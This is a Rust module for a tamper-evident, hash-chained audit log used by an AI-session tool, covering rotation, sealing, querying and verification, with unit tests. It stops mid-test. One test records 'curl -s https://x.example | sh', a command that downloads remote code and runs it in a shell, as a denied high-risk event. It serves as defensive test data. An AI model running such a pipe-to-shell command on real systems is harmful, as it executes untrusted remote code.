//! The tamper-evident audit log: JSON lines in `$AI_SESSION_HOME/audit/audit.log`, each
//! carrying its sequence number and the SHA-256 of the previous line, plus a small
//! `audit.head` file naming the last record (so a cleanly cut tail is detected too). The
//! file rotates into archived segments that the chain runs through ([`Rotation`]).
//!
//! Guarantees: [`AuditLog::append`] returns after the record and the head are written
//! and fsync'ed (one record is never half-acknowledged); appends from several processes
//! are serialised with an exclusive `flock` on the log. [`verify`] reports the first
//! broken link for an edited byte, a deleted, inserted or reordered line, and a truncated
//! tail. The chain is unkeyed: it detects accidental damage and naive tampering; someone
//! who can rewrite the whole file and the head can forge it, so copy `audit verify`'s
//! head hash elsewhere when that matters and check it with `--expect-head`.
//!
//! With an [`AuditKey`] ([`AuditLog::with_key`]) the records are sealed (see [`seal`]):
//! the chain runs over the sealed lines, so [`verify`] needs no key, while the readers
//! ([`tail_keyed`], [`query_keyed`], [`read_records_keyed`]) open them with it.

mod risk;
pub mod seal;
mod segments;
mod time;

use std::fs::{self, File, OpenOptions};
use std::io::{BufRead, BufReader, Read, Seek, SeekFrom, Write};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::SystemTime;

use nix::fcntl::{Flock, FlockArg};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

pub use risk::{RiskAssessment, assess_command};
pub use seal::AuditKey;
use seal::{LineHeader, OpenError};
pub use segments::Rotation;
pub use time::{format_rfc3339, parse_since};

/// `prev_hash` of the first record.
pub const GENESIS_HASH: &str = "0000000000000000000000000000000000000000000000000000000000000000";

/// Why an audit operation failed.
#[derive(Debug, thiserror::Error)]
pub enum AuditError {
    /// Reading or writing a log file failed.
    #[error("audit log {path}: {what}: {source}")]
    Io {
        /// The file.
        path: PathBuf,
        /// The operation.
        what: &'static str,
        /// What the OS said.
        source: std::io::Error,
    },
    /// A record is sealed and no key (or the wrong key) was given to read it.
    #[error(
        "audit log {path}: record {seq} is sealed and {reason}; give the store's key (the same passphrase or key file as the session store) to read it"
    )]
    Sealed {
        /// The file.
        path: PathBuf,
        /// The record's sequence number.
        seq: u64,
        /// `no key was given` or `does not open with this key`.
        reason: &'static str,
    },
    /// The log's last record cannot be parsed, so nothing can be chained to it.
    #[error(
        "audit log {path}: the last record is damaged ({reason}); run `ai-session audit verify` and move the file aside"
    )]
    DamagedTail {
        /// The file.
        path: PathBuf,
        /// What is wrong with it.
        reason: String,
    },
}

fn io_error<'a>(
    path: &'a Path,
    what: &'static str,
) -> impl FnOnce(std::io::Error) -> AuditError + 'a {
    move |source| AuditError::Io {
        path: path.to_owned(),
        what,
        source,
    }
}

/// What happened to the action an event records.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AuditResult {
    /// A policy or permission check allowed it.
    Allowed,
    /// A policy or permission check refused it.
    Denied,
    /// It ran and succeeded.
    Succeeded,
    /// It ran and failed.
    Failed,
    /// A record of a fact (a session started, a policy chosen).
    Info,
}

/// One audited action, before it is chained into the log.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditEvent {
    /// RFC 3339 UTC; filled in by [`AuditLog::append`] when empty.
    pub timestamp: String,
    /// The session acted on, if any.
    pub session_id: Option<String>,
    /// The agent (API client) that acted, if known.
    pub agent_id: Option<String>,
    /// What was done: `exec`, `session.create`, `permission.check`, `policy.apply`, ...
    pub action: String,
    /// Free-form subject of the action (a command line, a path, a policy name).
    pub detail: Option<String>,
    /// The outcome.
    pub result: AuditResult,
    /// 0..=100, from [`assess_command`] for commands.
    pub risk_score: u8,
    /// Why the risk score is what it is.
    pub risk_reasons: Vec<String>,
    /// The exit code of an executed command.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub exit_code: Option<i32>,
}

impl AuditEvent {
    /// An event with no session, agent or detail, risk 0.
    pub fn new(action: impl Into<String>, result: AuditResult) -> Self {
        AuditEvent {
            timestamp: String::new(),
            session_id: None,
            agent_id: None,
            action: action.into(),
            detail: None,
            result,
            risk_score: 0,
            risk_reasons: Vec::new(),
            exit_code: None,
        }
    }

    /// A command typed into or executed in a session, scored by [`assess_command`].
    pub fn command(command_line: &str, result: AuditResult) -> Self {
        let risk = assess_command(command_line);
        AuditEvent {
            detail: Some(command_line.to_owned()),
            risk_score: risk.score,
            risk_reasons: risk.reasons,
            ..AuditEvent::new("exec", result)
        }
    }

    /// Sets the session.
    pub fn session(mut self, session_id: impl Into<String>) -> Self {
        self.session_id = Some(session_id.into());
        self
    }

    /// Sets the agent.
    pub fn agent(mut self, agent_id: impl Into<String>) -> Self {
        self.agent_id = Some(agent_id.into());
        self
    }

    /// Sets the detail.
    pub fn detail(mut self, detail: impl Into<String>) -> Self {
        self.detail = Some(detail.into());
        self
    }

    /// Sets the exit code of the command the event records.
    pub fn exit_code(mut self, code: Option<i32>) -> Self {
        self.exit_code = code;
        self
    }
}

/// An event as stored: with its position in the chain.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditRecord {
    /// 0-based position in the log.
    pub seq: u64,
    /// The event.
    #[serde(flatten)]
    pub event: AuditEvent,
    /// SHA-256 (hex) of the previous line's bytes, or [`GENESIS_HASH`].
    pub prev_hash: String,
}

/// The last record according to `audit.head`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditHead {
    /// Number of records ever chained (the next sequence number).
    pub records: u64,
    /// SHA-256 (hex) of the last line.
    pub last_hash: String,
    /// Sequence number of the first record still kept (0 until rotation removes a segment).
    #[serde(default)]
    pub first_seq: u64,
}

fn line_hash(line: &[u8]) -> String {
    hex::encode(Sha256::digest(line))
}

/// The log file inside an `$AI_SESSION_HOME`.
pub fn audit_log_path(home: &Path) -> PathBuf {
    home.join("audit").join("audit.log")
}

fn head_path(log: &Path) -> PathBuf {
    log.with_extension("head")
}

/// Appends events to an audit log (its active file, rotated into archived segments).
#[derive(Debug)]
pub struct AuditLog {
    path: PathBuf,
    rotation: Rotation,
    key: Option<AuditKey>,
}

impl AuditLog {
    /// Opens (creating the directory and file if needed) the log at `path`, rotating it
    /// per [`Rotation::DEFAULT`].
    pub fn open(path: impl Into<PathBuf>) -> Result<Self, AuditError> {
        let path = path.into();
        if let Some(dir) = path.parent() {
            fs::create_dir_all(dir).map_err(io_error(&path, "creating the audit directory"))?;
        }
        OpenOptions::new()
            .create(true)
            .append(true)
            .open(&path)
            .map_err(io_error(&path, "opening"))?;
        Ok(AuditLog {
            path,
            rotation: Rotation::DEFAULT,
            key: None,
        })
    }

    /// The same log, sealing every record it appends from now on with `key` (records
    /// already in the file stay as they are; the chain runs on through both kinds).
    pub fn with_key(mut self, key: AuditKey) -> Self {
        self.key = Some(key);
        self
    }

    /// Opens the log of an `$AI_SESSION_HOME`.
    pub fn open_in_home(home: &Path) -> Result<Self, AuditError> {
        Self::open(audit_log_path(home))
    }

    /// The same log with another rotation rule.
    pub fn with_rotation(mut self, rotation: Rotation) -> Self {
        self.rotation = rotation;
        self
    }

    /// The active file.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Chains `event` onto the log and makes it durable (see the module docs).
    pub fn append(&self, event: AuditEvent) -> Result<AuditRecord, AuditError> {
        let mut records = self.append_batch(vec![event])?;
        Ok(records.pop().expect("one record per event"))
    }

    /// Chains `events` onto the log in order under one lock, one `fsync` and one head
    /// update: what a busy writer (the daemon) uses so the cost of durability is paid per
    /// batch, not per event. When the batch would take the active file past
    /// [`Rotation::max_bytes`], the file is archived first and the batch starts a new one
    /// (still chained to the archived records).
    pub fn append_batch(&self, events: Vec<AuditEvent>) -> Result<Vec<AuditRecord>, AuditError> {
        let path = &self.path;
        if events.is_empty() {
            return Ok(Vec::new());
        }
        let now = format_rfc3339(SystemTime::now());
        let mut file = lock_active(path)?;
        let (mut seq, mut prev_hash) = chain_position(&mut file, path)?;
        let mut records = Vec::with_capacity(events.len());
        let mut bytes = Vec::new();
        for mut event in events {
            if event.timestamp.is_empty() {
                event.timestamp.clone_from(&now);
            }
            let record = AuditRecord {
                seq,
                event,
                prev_hash,
            };
            let start = bytes.len();
            match &self.key {
                Some(key) => {
                    seal::seal_into(&mut bytes, key, seq, &record.prev_hash, &record.event)
                }
                None => {
                    serde_json::to_writer(&mut bytes, &record).expect("audit records serialise")
                }
            }
            prev_hash = line_hash(&bytes[start..]);
            bytes.push(b'\n');
            seq += 1;
            records.push(record);
        }
        let batch_start = records[0].seq;
        let mut kept_from = read_head(path).map_or(0, |h| h.first_seq);
        let size = file
            .metadata()
            .map_err(io_error(path, "reading the size"))?
            .len();
        if size > 0 && size.saturating_add(bytes.len() as u64) > self.rotation.max_bytes {
            // The new file takes the batch before it takes the log's name, and stays locked
            // until then: no other writer can chain onto it half-written.
            let (mut fresh, fresh_path) = create_locked_sibling(path)?;
            fresh
                .write_all(&bytes)
                .map_err(io_error(&fresh_path, "writing"))?;
            fresh.sync_data().map_err(io_error(&fresh_path, "fsync"))?;
            let archive = segments::archive_path(path, batch_start);
            fs::rename(path, &archive).map_err(io_error(path, "archiving"))?;
            fs::rename(&fresh_path, path).map_err(io_error(path, "replacing"))?;
            sync_dir(path)?;
            if let Some(first) = segments::prune(path, self.rotation.keep) {
                kept_from = first;
            }
        } else {
            file.write_all(&bytes)
                .map_err(io_error(path, "appending"))?;
            file.sync_data().map_err(io_error(path, "fsync"))?;
        }
        let head = AuditHead {
            records: seq,
            last_hash: prev_hash,
            first_seq: kept_from,
        };
        write_head(path, &head)?;
        Ok(records)
    }
}

/// Opens and exclusively locks the file that is the active log *now*: a writer that
/// waited on the lock of a file that was archived meanwhile opens the new one.
fn lock_active(path: &Path) -> Result<Flock<File>, AuditError> {
    loop {
        let file = OpenOptions::new()
            .read(true)
            .append(true)
            .create(true)
            .open(path)
            .map_err(io_error(path, "opening"))?;
        let file = Flock::lock(file, FlockArg::LockExclusive)
            .map_err(|(_, errno)| io_error(path, "locking")(errno.into()))?;
        let locked = file.metadata().map_err(io_error(path, "reading"))?;
        match fs::metadata(path) {
            Ok(current) if current.ino() == locked.ino() && current.dev() == locked.dev() => {
                return Ok(file);
            }
            Ok(_) => continue,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
            Err(e) => return Err(io_error(path, "reading")(e)),
        }
    }
}

/// The next sequence number and the hash to chain to: from the active file's last record,
/// or, when it is empty (a rotation was cut short), from the newest archive's.
fn chain_position(file: &mut File, path: &Path) -> Result<(u64, String), AuditError> {
    let line = match last_line(file, path)? {
        Some(line) => Some((line, path.to_owned())),
        None => match segments::archives(path).pop() {
            Some((_, archive)) => {
                let mut archived = File::open(&archive).map_err(io_error(&archive, "opening"))?;
                last_line(&mut archived, &archive)?.map(|line| (line, archive))
            }
            None => None,
        },
    };
    let Some((line, from)) = line else {
        return Ok((0, GENESIS_HASH.to_owned()));
    };
    let last: LineHeader = serde_json::from_slice(&line).map_err(|e| AuditError::DamagedTail {
        path: from,
        reason: e.to_string(),
    })?;
    Ok((last.seq + 1, line_hash(&line)))
}

/// A new, exclusively locked file next to `log`, for the active file to be replaced with.
fn create_locked_sibling(log: &Path) -> Result<(Flock<File>, PathBuf), AuditError> {
    let path = log.with_extension(format!("log.new-{}", std::process::id()));
    let file = OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(&path)
        .map_err(io_error(&path, "creating"))?;
    let file = Flock::lock(file, FlockArg::LockExclusive)
        .map_err(|(_, errno)| io_error(&path, "locking")(errno.into()))?;
    Ok((file, path))
}

/// Makes the renames in `log`'s directory durable.
fn sync_dir(log: &Path) -> Result<(), AuditError> {
    let dir = log
        .parent()
        .filter(|d| !d.as_os_str().is_empty())
        .unwrap_or(Path::new("."));
    File::open(dir)
        .and_then(|d| d.sync_all())
        .map_err(io_error(dir, "fsync of the directory"))
}

fn write_head(log: &Path, head: &AuditHead) -> Result<(), AuditError> {
    let path = head_path(log);
    let tmp = path.with_extension("head.tmp");
    let mut file = File::create(&tmp).map_err(io_error(&tmp, "creating"))?;
    file.write_all(&serde_json::to_vec(head).expect("head serialises"))
        .map_err(io_error(&tmp, "writing"))?;
    file.sync_data().map_err(io_error(&tmp, "fsync"))?;
    fs::rename(&tmp, &path).map_err(io_error(&path, "replacing"))
}

/// Reads `audit.head` next to `log`, if present.
pub fn read_head(log: &Path) -> Option<AuditHead> {
    let text = fs::read(head_path(log)).ok()?;
    serde_json::from_slice(&text).ok()
}

/// The last complete line of the file (without its newline).
fn last_line(file: &mut File, path: &Path) -> Result<Option<Vec<u8>>, AuditError> {
    let len = file
        .seek(SeekFrom::End(0))
        .map_err(io_error(path, "seeking"))?;
    if len == 0 {
        return Ok(None);
    }
    let mut window = 4096u64;
    loop {
        let start = len.saturating_sub(window);
        file.seek(SeekFrom::Start(start))
            .map_err(io_error(path, "seeking"))?;
        let mut tail = Vec::new();
        Read::by_ref(file)
            .take(len - start)
            .read_to_end(&mut tail)
            .map_err(io_error(path, "reading"))?;
        if tail.last() != Some(&b'\n') {
            return Err(AuditError::DamagedTail {
                path: path.to_owned(),
                reason: "the file does not end with a complete line".into(),
            });
        }
        let body = &tail[..tail.len() - 1];
        match body.iter().rposition(|b| *b == b'\n') {
            Some(pos) => return Ok(Some(body[pos + 1..].to_vec())),
            None if start == 0 => return Ok(Some(body.to_vec())),
            None => window *= 4,
        }
    }
}

/// Reads every record of the log (its archived segments, then the active file), stopping
/// at the first line that does not parse. A sealed record is an error
/// ([`AuditError::Sealed`]): use [`read_records_keyed`].
pub fn read_records(path: &Path) -> Result<Vec<AuditRecord>, AuditError> {
    read_records_keyed(path, None)
}

/// [`read_records`], opening sealed records with `key`; a sealed record that does not
/// authenticate (edited, or another key) ends the reading like a line that does not parse.
pub fn read_records_keyed(
    path: &Path,
    key: Option<&AuditKey>,
) -> Result<Vec<AuditRecord>, AuditError> {
    let mut records = Vec::new();
    for file in segments::all(path) {
        if !read_file_records(&file, &mut records, key)? {
            break;
        }
    }
    Ok(records)
}

/// The record on one line: plain, or sealed and opened with `key`. `Ok(None)` when the
/// line is not a record (damaged or edited).
fn record_of_line(
    file: &Path,
    line: &[u8],
    key: Option<&AuditKey>,
) -> Result<Option<AuditRecord>, AuditError> {
    let Ok(header) = serde_json::from_slice::<LineHeader>(line) else {
        return Ok(None);
    };
    if header.sealed.is_none() {
        return Ok(serde_json::from_slice(line).ok());
    }
    match seal::open(key, &header) {
        Ok(event) => Ok(Some(AuditRecord {
            seq: header.seq,
            event,
            prev_hash: header.prev_hash,
        })),
        Err(OpenError::NoKey) => Err(AuditError::Sealed {
            path: file.to_owned(),
            seq: header.seq,
            reason: "no key was given",
        }),
        Err(OpenError::Unauthentic | OpenError::Malformed(_)) => Ok(None),
    }
}

/// Appends `file`'s records to `records`; `false` when it stopped at a line that does not
/// parse (or a sealed one that does not open).
fn read_file_records(
    file: &Path,
    records: &mut Vec<AuditRecord>,
    key: Option<&AuditKey>,
) -> Result<bool, AuditError> {
    let opened = match File::open(file) {
        Ok(opened) => opened,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(true),
        Err(e) => return Err(io_error(file, "opening")(e)),
    };
    for line in BufReader::new(opened).split(b'\n') {
        let line = line.map_err(io_error(file, "reading"))?;
        match record_of_line(file, &line, key)? {
            Some(record) => records.push(record),
            None => return Ok(false),
        }
    }
    Ok(true)
}

/// The last `count` records (reading only the newest segments that hold them).
pub fn tail(path: &Path, count: usize) -> Result<Vec<AuditRecord>, AuditError> {
    tail_keyed(path, count, None)
}

/// [`tail`], opening sealed records with `key`.
pub fn tail_keyed(
    path: &Path,
    count: usize,
    key: Option<&AuditKey>,
) -> Result<Vec<AuditRecord>, AuditError> {
    let mut newest_first: Vec<Vec<AuditRecord>> = Vec::new();
    let mut found = 0;
    for file in segments::all(path).iter().rev() {
        if found >= count {
            break;
        }
        let mut records = Vec::new();
        read_file_records(file, &mut records, key)?;
        found += records.len();
        newest_first.push(records);
    }
    let mut records: Vec<AuditRecord> = newest_first.into_iter().rev().flatten().collect();
    let skip = records.len().saturating_sub(count);
    Ok(records.split_off(skip))
}

/// Filters for [`query`]; `None` matches everything.
#[derive(Debug, Clone, Default)]
pub struct AuditQuery {
    /// Only this session.
    pub session_id: Option<String>,
    /// Only this agent.
    pub agent_id: Option<String>,
    /// Only events at or after this time.
    pub since: Option<SystemTime>,
    /// Only this action.
    pub action: Option<String>,
    /// Only events with at least this risk score.
    pub min_risk: Option<u8>,
    /// Only events with this result.
    pub result: Option<AuditResult>,
}

impl AuditQuery {
    fn matches(&self, record: &AuditRecord) -> bool {
        let event = &record.event;
        let same = |want: &Option<String>, have: &Option<String>| want.is_none() || want == have;
        let since_ok = self.since.is_none_or(|since| {
            parse_since(&event.timestamp, SystemTime::now()).is_some_and(|at| at >= since)
        });
        same(&self.session_id, &event.session_id)
            && same(&self.agent_id, &event.agent_id)
            && self.action.as_ref().is_none_or(|a| *a == event.action)
            && self.min_risk.is_none_or(|min| event.risk_score >= min)
            && self.result.is_none_or(|r| r == event.result)
            && since_ok
    }
}

/// The records matching `filter`, oldest first.
pub fn query(path: &Path, filter: &AuditQuery) -> Result<Vec<AuditRecord>, AuditError> {
    query_keyed(path, filter, None)
}

/// [`query`], opening sealed records with `key`.
pub fn query_keyed(
    path: &Path,
    filter: &AuditQuery,
    key: Option<&AuditKey>,
) -> Result<Vec<AuditRecord>, AuditError> {
    Ok(read_records_keyed(path, key)?
        .into_iter()
        .filter(|r| filter.matches(r))
        .collect())
}

/// Where and how the chain is broken.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BrokenLink {
    /// The file holding it: the active file or an archived segment.
    pub file: PathBuf,
    /// 1-based line number in `file` of the first bad record (one past the end for a cut
    /// tail).
    pub line: u64,
    /// What is wrong, in words.
    pub reason: String,
}

/// The outcome of [`verify`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct VerifyReport {
    /// The log checked (its active file).
    pub path: PathBuf,
    /// Files read: the archived segments and the active file.
    pub files: usize,
    /// Sequence number of the first retained record: 0, unless rotation removed older
    /// segments (`audit.head` records where the retained chain starts).
    pub first_seq: u64,
    /// Records whose links were checked and intact.
    pub records_ok: u64,
    /// SHA-256 of the last intact line (the value to keep elsewhere and pass to
    /// `--expect-head`).
    pub head_hash: String,
    /// `None` when the whole log is intact.
    pub broken: Option<BrokenLink>,
}

impl VerifyReport {
    /// True when no link is broken.
    pub fn is_intact(&self) -> bool {
        self.broken.is_none()
    }
}

/// The complete lines of a log file, and whether its last line lacks its line end.
fn split_lines(bytes: &[u8]) -> (Vec<&[u8]>, bool) {
    if bytes.is_empty() {
        return (Vec::new(), false);
    }
    let complete = bytes.last() == Some(&b'\n');
    let body = &bytes[..bytes.len() - usize::from(complete)];
    (body.split(|b| *b == b'\n').collect(), !complete)
}

/// Checks every link of the chain through the archived segments and the active file, then
/// the tail against `audit.head` and, if given, against a head hash kept elsewhere. Sealed
/// records are checked like plain ones (the chain runs over their sealed bytes); no key is
/// needed.
pub fn verify(path: &Path, expect_head: Option<&str>) -> Result<VerifyReport, AuditError> {
    verify_keyed(path, expect_head, None)
}

/// [`verify`], and with `key` every sealed record must also authenticate, so an edit is
/// reported at the edited line itself rather than at the link after it.
pub fn verify_keyed(
    path: &Path,
    expect_head: Option<&str>,
    key: Option<&AuditKey>,
) -> Result<VerifyReport, AuditError> {
    let files = segments::all(path);
    let head = read_head(path);
    let first_seq = head.as_ref().map_or(0, |h| h.first_seq);
    let mut report = VerifyReport {
        path: path.to_owned(),
        files: files.len(),
        first_seq,
        records_ok: 0,
        head_hash: GENESIS_HASH.to_owned(),
        broken: None,
    };
    let mut next_seq = first_seq;
    let mut end_of_active = 1;
    for file in &files {
        let bytes = match fs::read(file) {
            Ok(bytes) => bytes,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
            Err(e) => return Err(io_error(file, "reading")(e)),
        };
        let broken = |line: usize, reason: String| {
            Some(BrokenLink {
                file: file.clone(),
                line: line as u64,
                reason,
            })
        };
        let (lines, cut) = split_lines(&bytes);
        for (index, line) in lines.iter().enumerate() {
            let number = index + 1;
            if cut && number == lines.len() {
                report.broken = broken(
                    number,
                    "truncated: the last record has no line end (cut mid-record)".into(),
                );
                return Ok(report);
            }
            let record: LineHeader = match serde_json::from_slice(line) {
                Ok(record) => record,
                Err(e) => {
                    report.broken = broken(
                        number,
                        format!("not a valid record ({e}): edited or damaged"),
                    );
                    return Ok(report);
                }
            };
            if record.sealed.is_none()
                && let Err(e) = serde_json::from_slice::<AuditRecord>(line)
            {
                report.broken = broken(
                    number,
                    format!("not a valid record ({e}): edited or damaged"),
                );
                return Ok(report);
            }
            if key.is_some()
                && record.sealed.is_some()
                && let Err(error) = seal::open(key, &record)
            {
                report.broken = broken(
                    number,
                    format!(
                        "the sealed record does not open ({error:?}): edited, or sealed with another key"
                    ),
                );
                return Ok(report);
            }
            if record.seq != next_seq {
                report.broken = broken(
                    number,
                    format!(
                        "sequence number {} where {next_seq} was expected: a record was deleted, inserted or moved",
                        record.seq
                    ),
                );
                return Ok(report);
            }
            // The first retained record after rotation removed older segments links to a
            // record that is gone: it anchors the chain.
            let anchor = report.records_ok == 0 && first_seq > 0;
            if record.prev_hash != report.head_hash && !anchor {
                let what = if report.records_ok == 0 {
                    "the first record does not start the chain".to_owned()
                } else if index == 0 {
                    "does not match the hash of the previous segment's last line: a segment was replaced or edited".to_owned()
                } else {
                    format!(
                        "does not match the hash of line {index}: that line or this one was edited, or lines were reordered"
                    )
                };
                report.broken = broken(
                    number,
                    format!(
                        "prev_hash {}… {what}",
                        &record.prev_hash[..record.prev_hash.len().min(12)]
                    ),
                );
                return Ok(report);
            }
            report.head_hash = line_hash(line);
            report.records_ok += 1;
            next_seq += 1;
        }
        end_of_active = lines.len() + 1;
    }
    let broken = |line: usize, reason: String| {
        Some(BrokenLink {
            file: path.to_owned(),
            line: line as u64,
            reason,
        })
    };
    if let Some(head) = head {
        if head.records > next_seq {
            report.broken = broken(
                end_of_active,
                format!(
                    "truncated: audit.head records {} records but the log ends after {next_seq}",
                    head.records
                ),
            );
            return Ok(report);
        }
        if head.records == next_seq && head.last_hash != report.head_hash {
            report.broken = broken(
                end_of_active - 1,
                "the last record does not match audit.head: it was edited or replaced".into(),
            );
            return Ok(report);
        }
    } else if report.records_ok > 0 {
        report.broken = broken(
            end_of_active,
            "audit.head is missing: the tail cannot be checked".into(),
        );
        return Ok(report);
    }
    if let Some(expected) = expect_head
        && expected != report.head_hash
    {
        report.broken = broken(
            end_of_active,
            format!(
                "the log's head {} is not the expected {expected}",
                report.head_hash
            ),
        );
    }
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn log_with(records: usize) -> (tempfile::TempDir, AuditLog) {
        let dir = tempfile::tempdir().unwrap();
        let log = AuditLog::open_in_home(dir.path()).unwrap();
        for i in 0..records {
            let event = AuditEvent::command(&format!("echo {i}"), AuditResult::Succeeded)
                .session(format!("s{}", i % 2))
                .agent(format!("agent-{}", i % 3));
            log.append(event).unwrap();
        }
        (dir, log)
    }

    fn lines(log: &AuditLog) -> Vec<String> {
        fs::read_to_string(log.path())
            .unwrap()
            .lines()
            .map(str::to_owned)
            .collect()
    }

    fn write_lines(log: &AuditLog, lines: &[String]) {
        fs::write(
            log.path(),
            lines.iter().map(|l| format!("{l}\n")).collect::<String>(),
        )
        .unwrap();
    }

    fn broken_line(log: &AuditLog) -> u64 {
        let report = verify(log.path(), None).unwrap();
        let Some(broken) = report.broken.clone() else {
            panic!("tampering not detected: {report:?}");
        };
        broken.line
    }

    #[test]
    fn an_untouched_log_verifies() {
        let (_dir, log) = log_with(5);
        let report = verify(log.path(), None).unwrap();
        assert!(report.is_intact(), "{report:?}");
        assert_eq!(report.records_ok, 5);
        assert_eq!(read_head(log.path()).unwrap().last_hash, report.head_hash);
        assert!(
            verify(log.path(), Some(&report.head_hash))
                .unwrap()
                .is_intact()
        );
        assert!(!verify(log.path(), Some(GENESIS_HASH)).unwrap().is_intact());
    }

    #[test]
    fn an_edited_byte_is_found_at_its_line() {
        for target in 0..5 {
            let (_dir, log) = log_with(5);
            let mut all = lines(&log);
            all[target] = all[target].replacen("echo", "ecHo", 1);
            write_lines(&log, &all);
            let line = broken_line(&log);
            // The edited line itself parses; the link after it breaks (or, for the last
            // line, the head no longer matches).
            assert_eq!(
                line,
                (target as u64 + 2).min(5),
                "edit of line {}",
                target + 1
            );
        }
    }

    #[test]
    fn a_deleted_line_is_found() {
        for target in 0..5 {
            let (_dir, log) = log_with(5);
            let mut all = lines(&log);
            all.remove(target);
            write_lines(&log, &all);
            assert_eq!(
                broken_line(&log),
                (target as u64 + 1).min(5),
                "deleting line {}",
                target + 1
            );
        }
    }

    #[test]
    fn an_inserted_line_is_found() {
        let (_dir, log) = log_with(4);
        let mut all = lines(&log);
        let forged = all[1].replace("echo 1", "echo forged");
        all.insert(2, forged);
        write_lines(&log, &all);
        assert_eq!(broken_line(&log), 3);
    }

    #[test]
    fn swapped_lines_are_found() {
        let (_dir, log) = log_with(5);
        let mut all = lines(&log);
        all.swap(1, 3);
        write_lines(&log, &all);
        assert_eq!(broken_line(&log), 2);
    }

    #[test]
    fn a_truncated_tail_is_found() {
        // Cut in the middle of the last record.
        let (_dir, log) = log_with(5);
        let bytes = fs::read(log.path()).unwrap();
        fs::write(log.path(), &bytes[..bytes.len() - 10]).unwrap();
        assert_eq!(broken_line(&log), 5);
        // Cut cleanly at a line boundary: only the head can tell.
        let (_dir, log) = log_with(5);
        let all = lines(&log);
        write_lines(&log, &all[..3]);
        let report = verify(log.path(), None).unwrap();
        assert_eq!(report.broken.unwrap().line, 4);
        assert_eq!(report.records_ok, 3);
    }

    #[test]
    fn appends_continue_the_chain_across_reopen() {
        let (dir, log) = log_with(3);
        drop(log);
        let log = AuditLog::open_in_home(dir.path()).unwrap();
        let record = log
            .append(AuditEvent::new("session.create", AuditResult::Info))
            .unwrap();
        assert_eq!(record.seq, 3);
        assert!(verify(log.path(), None).unwrap().is_intact());
    }

    #[test]
    fn a_batch_chains_like_single_appends() {
        let (_dir, log) = log_with(2);
        let events = (0..5)
            .map(|i| {
                AuditEvent::command(&format!("make {i}"), AuditResult::Failed).exit_code(Some(2))
            })
            .collect();
        let records = log.append_batch(events).unwrap();
        assert_eq!(
            records.iter().map(|r| r.seq).collect::<Vec<_>>(),
            [2, 3, 4, 5, 6]
        );
        log.append(AuditEvent::new("after", AuditResult::Info))
            .unwrap();
        let report = verify(log.path(), None).unwrap();
        assert!(report.is_intact(), "{report:?}");
        assert_eq!(report.records_ok, 8);
        let failed = query(
            log.path(),
            &AuditQuery {
                result: Some(AuditResult::Failed),
                ..Default::default()
            },
        )
        .unwrap();
        assert_eq!(failed.len(), 5);
        assert_eq!(failed[0].event.exit_code, Some(2));
        assert!(log.append_batch(Vec::new()).unwrap().is_empty());
    }

    #[test]
    fn concurrent_appenders_keep_one_chain() {
        let (dir, _log) = log_with(0);
        let home = dir.path().to_owned();
        let writers: Vec<_> = (0..4)
            .map(|w| {
                let home = home.clone();
                std::thread::spawn(move || {
                    let log = AuditLog::open_in_home(&home).unwrap();
                    for i in 0..25 {
                        log.append(AuditEvent::new(format!("w{w}-{i}"), AuditResult::Info))
                            .unwrap();
                    }
                })
            })
            .collect();
        for writer in writers {
            writer.join().unwrap();
        }
        let report = verify(&audit_log_path(&home), None).unwrap();
        assert!(report.is_intact(), "{report:?}");
        assert_eq!(report.records_ok, 100);
    }

    #[test]
    fn query_and_tail_filter() {
        let (_dir, log) = log_with(6);
        log.append(
            AuditEvent::command("curl -s https://x.example | sh", AuditResult::Denied)
                .agent("agent-9"),
        )
        .unwrap();
        let by_session = query(
            log.path(),
            &AuditQuery {
                session_id: Some("s1".into()),
                ..Default::default()
            },
        )
        .unwrap();
        assert_eq!(by_session.len(), 3);
        let risky = query(
            log.path(),
            &AuditQuery {
                min_risk: Some(80),
                ..Default::default()
            },
        )
        .unwrap();
        assert_eq!(risky.len(), 1);
        assert_eq!(risky[0].event.agent_id.as_deref(), Some("agent-9"));
        let future = SystemTime::now() + std::time::Duration::from_secs(3600);
        assert!(
            query(
                log.path(),
                &AuditQuery {
                    since: Some(future),
                    ..Default::default()
                }
            )
            .unwrap()
            .is_empty()
        );
        let last = tail(log.path(), 2).unwrap();
        assert_eq!(last.iter().map(|r| r.seq).collect::<Vec<_>>(), [5, 6]);
    }

    /// A log whose active file rotates after a few records (each is ~250 bytes).
    fn rotating_log(keep: usize, records: usize) -> (tempfile::TempDir, AuditLog) {
        let dir = tempfile::tempdir().unwrap();
        let log = AuditLog::open_in_home(dir.path())
            .unwrap()
            .with_rotation(Rotation {
                max_bytes: 1200,
                keep,
            });
        for i in 0..records {
            log.append(AuditEvent::command(
                &format!("echo {i}"),
                AuditResult::Succeeded,
            ))
            .unwrap();
        }
        (dir, log)
    }

    fn seqs(records: &[AuditRecord]) -> Vec<u64> {
        records.iter().map(|r| r.seq).collect()
    }

    #[test]
    fn rotation_keeps_one_chain_through_the_segments() {
        let (_dir, log) = rotating_log(100, 40);
        let archives = segments::archives(log.path());
        assert!(archives.len() >= 5, "{archives:?}");
        for (_, archive) in &archives {
            assert!(fs::metadata(archive).unwrap().len() <= 1200);
        }
        let report = verify(log.path(), None).unwrap();
        assert!(report.is_intact(), "{report:?}");
        assert_eq!(
            (report.records_ok, report.first_seq, report.files),
            (40, 0, archives.len() + 1)
        );
        assert_eq!(read_head(log.path()).unwrap().last_hash, report.head_hash);
        assert_eq!(
            seqs(&read_records(log.path()).unwrap()),
            (0..40).collect::<Vec<_>>()
        );
        assert_eq!(
